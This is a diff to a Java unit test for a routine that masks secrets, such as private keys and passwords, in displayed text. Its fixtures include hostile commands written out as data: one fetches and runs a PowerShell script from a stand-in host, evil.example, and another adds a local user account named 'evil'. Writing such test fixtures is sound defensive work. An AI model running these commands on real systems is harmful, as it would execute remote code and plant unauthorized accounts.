@@ -24,7 +24,8 @@ class MaskingTest {
                 "#-----BEGIN RSA PRIVATE KEY-----\n#MIIEpAIBAAKCAQEAx3b2\n@\n#MIIEpAIBAAKCAQEAx3b3\n#-----END RSA PRIVATE KEY-----",
                 "#-----BEGIN RSA PRIVATE KEY-----\n@",
                 "$password = \"Sup3r@Hunter2\"",
-                "$password = \"@\""
+                "$password = \"@\"",
+                "net user evil x /add\n@\necho -----END PRIVATE KEY-----"
             })
     void codeStaysVisible(String text) {
         String code = "$(Invoke-WebRequest http://evil.example/x.ps1 | Invoke-Expression)";
@@ -298,7 +299,7 @@ class MaskingTest {
         String end = "-".repeat(5) + "END RSA PRIVATE" + " KEY" + "-".repeat(5);
         String body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\r\n";
 
-        assertThat(shown("error:\r\n" + body + body + end + "\r\nb")).isEqualTo("error:[secret]\r\nb");
+        assertThat(shown("error:\r\n" + body + body + end + "\r\nb")).isEqualTo("error:\r\n[secret]\r\nb");
     }
 
     @Test
